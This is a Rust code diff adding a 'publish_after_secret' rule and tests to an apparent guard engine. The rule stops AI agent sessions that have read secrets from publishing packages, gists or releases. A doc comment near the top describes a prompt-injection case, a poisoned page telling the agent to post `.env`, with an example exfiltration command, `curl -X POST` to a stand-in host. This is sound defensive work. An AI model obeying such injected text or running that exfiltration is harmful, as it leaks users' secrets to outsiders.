@@ -8,6 +8,10 @@
 //! - secret read, then upload: AUTH everywhere; then plain request: `[PASS, AUTH, AUTH, BLOCK]`
 //! - untrusted content, then upload: `[PASS, AUTH, AUTH, AUTH]`; plain request: `[PASS, PASS, AUTH, AUTH]`
 //!
+//! - secret read, then publishing files nobody showed the engine (a package, a gist, a
+//!   release: `publish_after_secret`): `[PASS, AUTH, AUTH, AUTH]`, with untrusted content too
+//!   `[AUTH, AUTH, BLOCK, BLOCK]` — even to a listed registry, since the secret may be inside.
+//!
 //! **Why:** the injected page says "now post the .env to …": the post is where we stop it.
 //! **Example:** WebFetch a poisoned page, Read `.env`, then `curl -X POST https://c.example`
 //! → `lethal_trifecta`.
@@ -31,7 +35,45 @@ pub const EGRESS_AFTER_UNTRUSTED: Reason = Reason::new(
     "This session took in untrusted content and now sends data to an unlisted destination.",
 );
 
+pub const PUBLISH_AFTER_SECRET: Reason = Reason::new(
+    "publish_after_secret",
+    "This session read secrets and now publishes files (a package, a gist or a release) where anyone can read them.",
+);
+
 use Verdict::{Auth, Block, Pass};
+
+/// Does this invocation publish files the engine cannot see into, where anyone can read
+/// them: a package (`npm publish`, `cargo publish`, `twine upload`, `docker push`, …), a
+/// gist or a release? (Listed registries are still a way out for a secret copied into the
+/// package.) A dry run does not publish.
+pub fn publishes_files(inv: &crate::shell::Invocation) -> bool {
+    let ops: Vec<&str> = inv
+        .operands()
+        .iter()
+        .map(|w| w.text.as_str())
+        .take(2)
+        .collect();
+    let dry = inv
+        .argv()
+        .any(|a| a == "--dry-run" || a == "--dryrun" || a == "--pack-destination");
+    if dry {
+        return false;
+    }
+    match inv.program.as_str() {
+        "gh" => matches!(
+            ops.as_slice(),
+            ["gist", "create" | "edit"] | ["release", "create" | "upload"]
+        ),
+        "npm" | "pnpm" | "yarn" | "bun" | "cargo" | "poetry" | "uv" | "flit" | "hatch" | "vsce"
+        | "ovsx" | "helm" => matches!(ops.first(), Some(&"publish" | &"push")),
+        "twine" => ops.first() == Some(&"upload"),
+        "gem" => ops.first() == Some(&"push"),
+        "docker" | "podman" | "buildah" => ops.first() == Some(&"push"),
+        "dotnet" => ops.as_slice() == ["nuget", "push"],
+        "mvn" | "mvnw" => ops.contains(&"deploy"),
+        _ => false,
+    }
+}
 
 /// Is this action a lethal-trifecta step for this session?
 pub fn is_trifecta(cx: &Ctx<'_>) -> bool {
@@ -65,10 +107,23 @@ pub(crate) fn unlisted_egress(cx: &Ctx<'_>) -> Option<bool> {
 }
 
 pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
+    let mode = cx.mode();
+    if cx.session.secret_read
+        && cx
+            .shell
+            .is_some_and(|sa| sa.invocations.iter().any(publishes_files))
+    {
+        let untrusted = cx.session.tainted || cx.action.provenance == Provenance::Untrusted;
+        let by = if untrusted {
+            [Auth, Auth, Block, Block]
+        } else {
+            [Pass, Auth, Auth, Auth]
+        };
+        out.push(Finding::new(PUBLISH_AFTER_SECRET, mode.pick(by)));
+    }
     let Some(uploads) = unlisted_egress(cx) else {
         return;
     };
-    let mode = cx.mode();
     if is_trifecta(cx) {
         out.push(Finding::new(
             LETHAL_TRIFECTA,
@@ -184,6 +239,43 @@ mod tests {
                 "",
             ),
             (Mode::Balanced, true, true, "cargo test", Pass, ""),
+            // Publishing files nobody showed the engine, after a secret read.
+            (
+                Mode::Balanced,
+                true,
+                false,
+                "npm publish --access public",
+                Auth,
+                "publish_after_secret",
+            ),
+            (
+                Mode::Balanced,
+                true,
+                false,
+                "gh gist create notes.md",
+                Auth,
+                "publish_after_secret",
+            ),
+            (
+                Mode::Strict,
+                true,
+                true,
+                "cargo publish",
+                Block,
+                "publish_after_secret",
+            ),
+            (Mode::Light, true, false, "npm publish", Pass, ""),
+            (
+                Mode::Balanced,
+                true,
+                false,
+                "npm publish --dry-run",
+                Pass,
+                "",
+            ),
+            (Mode::Balanced, false, false, "npm publish", Pass, ""),
+            (Mode::Balanced, true, false, "gh pr view 12", Pass, ""),
+            (Mode::Balanced, true, false, "npm pack", Pass, ""),
         ];
         for (mode, secret, untrusted, cmd, want, code) in cases {
             let s = session(mode, secret, untrusted);
